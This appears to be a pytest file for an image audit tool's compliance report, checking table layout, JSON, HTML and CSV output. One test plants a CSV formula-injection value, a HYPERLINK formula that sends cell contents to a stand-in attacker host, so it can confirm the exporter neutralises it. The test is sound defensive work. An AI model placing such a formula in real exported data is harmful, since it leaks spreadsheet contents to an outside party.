"""The compliance table from its document: every control id and check id whole at 80, 120 and 250
columns; columns when they fit, stacked when they do not; JSON and page from the same document."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from imagevet.audit import run_audit
from imagevet.checks.base import CheckOptions
from imagevet.compliance import assess, for_image, framework
from imagevet.report import compliance
from imagevet.target import RootfsTarget
from tests.conftest import FIXTURES


def document_for(key: str) -> dict[str, Any]:
    frame = framework(key)
    target = RootfsTarget(str(FIXTURES / "rootfs" / "weak-rocky9"))
    report = run_audit(target, CheckOptions(dt.date(2026, 11, 28)), frame.check_ids())
    judged, coverage = assess(frame, report)
    return compliance.document(frame, report, judged, coverage)


@pytest.mark.parametrize("width", [80, 120, 250])
@pytest.mark.parametrize("key", ["cis-l1", "pci-dss"])
def test_every_control_and_check_is_whole(key: str, width: int) -> None:
    data = document_for(key)
    lines = compliance.render(data, compliance.Format.TABLE, width=width).splitlines()
    assert all(len(line) <= width or len(line.split()) == 1 for line in lines)
    words = {word.strip(",") for line in lines for word in line.split()}
    for control in data["controls"]:
        assert control["id"] in words
        assert {f"{c['check']}:{c['status']}" for c in control["checks"]} <= words


def test_columns_only_when_they_fit() -> None:
    data = document_for("pci-dss")
    wide = compliance.render(data, compliance.Format.TABLE, width=250).splitlines()
    assert wide[1].split() == ["control", "status", "title", "checks"]
    narrow = compliance.render(data, compliance.Format.TABLE, width=80).splitlines()
    first = data["controls"][0]
    head = next(i for i, line in enumerate(narrow) if line.split() == [first["id"], first["status"]])
    assert narrow[head + 1].startswith("    ") and first["title"].startswith(narrow[head + 1].strip())
    assert not any(line.split()[:2] == ["control", "status"] for line in narrow)
    assert json.loads(compliance.render(data, compliance.Format.JSON)) == data
    page = compliance.render(data, compliance.Format.HTML)
    assert page.count("<tr>") == len(data["controls"]) + 1


def test_the_json_keeps_each_checks_evidence() -> None:
    frame = framework("pci-dss")
    target = RootfsTarget(str(FIXTURES / "rootfs" / "weak-rocky9"))
    report = run_audit(target, CheckOptions(dt.date(2026, 11, 28)), frame.check_ids())
    judged, coverage = assess(frame, report)
    data = compliance.document(frame, report, judged, coverage)
    by_check = {r.check: r for r in report.results}
    seen = 0
    for control in data["controls"]:
        for check in control["checks"]:
            expected = [(e.detail, e.path, e.line) for e in by_check[check["check"]].evidence]
            assert [(e["detail"], e["path"], e["line"]) for e in check["evidence"]] == expected
            seen += len(expected)
    assert seen  # the fixture's checks do say why


def csv_rows(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_csv_has_one_row_per_control_from_the_document() -> None:
    data = document_for("cis-l1")
    text = compliance.render(data, compliance.Format.CSV)
    assert text.endswith("\r\n") and text.count("\r\n") >= len(data["controls"]) + 1  # RFC 4180 line ends
    rows = csv_rows(text)
    assert tuple(rows[0]) == compliance.CSV_COLUMNS
    assert len(rows) == len(data["controls"]) + 1
    for row, control in zip(rows[1:], data["controls"], strict=True):
        cells = dict(zip(compliance.CSV_COLUMNS, row, strict=True))
        assert (cells["framework"], cells["control"], cells["status"]) == (
            "cis-l1",
            control["id"],
            control["status"],
        )
        assert cells["title"] == control["title"] and cells["manual"] == (control["manual"] or "")
        assert cells["checks"] == "; ".join(f"{c['check']}:{c['status']}" for c in control["checks"])
        assert cells["cis"].split() == control["recommendations"]
        for check in control["checks"]:
            for item in check["evidence"]:
                assert f"{check['check']}: {item['detail']}" in cells["evidence"]
        assert cells["as_of"] == data["as_of"] == "2026-11-28"


def test_no_csv_cell_starts_as_a_formula() -> None:
    """A target path or evidence that a spreadsheet would run (=, +, -, @, tab, CR first) stays text."""
    data = document_for("pci-dss")
    data["target"]["path"] = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
    data["controls"][0]["checks"][0]["evidence"] = [{"detail": "x", "path": None, "line": None}]
    data["controls"][0]["title"] = "+1 and -1"
    rows = csv_rows(compliance.render(data, compliance.Format.CSV))
    for row in rows[1:]:
        assert row[compliance.CSV_COLUMNS.index("target")].startswith("'=HYPERLINK(")
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert rows[1][compliance.CSV_COLUMNS.index("title")] == "'+1 and -1"


def debian_per_recommendation(root: Path = FIXTURES / "rootfs" / "hardened-debian") -> dict[str, Any]:
    target = RootfsTarget(str(root))  # Debian 12: the full CIS list
    report = run_audit(target, CheckOptions(dt.date(2026, 11, 28)), framework("cis-l1").check_ids())
    frame = for_image(framework("cis-l1"), report)
    return compliance.document(frame, report, *assess(frame, report))


@pytest.mark.parametrize("width", [80, 250])
def test_a_partly_judged_recommendation_shows_its_checks_and_what_is_left(width: int, tmp_path: Path) -> None:
    """useradd's INACTIVE passes, but CIS 5.4.1.5 also asks about each account's own days: left to people."""
    root = tmp_path / "root"
    shutil.copytree(FIXTURES / "rootfs" / "hardened-debian", root, symlinks=True)
    (root / "etc/default/useradd").write_text("INACTIVE=30\n")
    data = debian_per_recommendation(root)
    (inactive,) = (c for c in data["controls"] if c["id"] == "5.4.1.5")
    assert inactive["status"] == "manual" and inactive["checks"]
    assert "each existing user's inactive days" in inactive["manual"]
    text = " ".join(compliance.render(data, compliance.Format.TABLE, width=width).split())
    assert "password-inactive:pass" in text and "each existing user's inactive days in /etc/shadow" in text
    page = compliance.render(data, compliance.Format.HTML)
    assert "password-inactive: pass<br>imagevet judges part of it" in page
    # the control id is the CIS number: not repeated as a number under it, nor in the CIS column
    assert "<small>CIS 5.4.1.5</small>" not in page and "CIS: 5.4.1.5" not in text
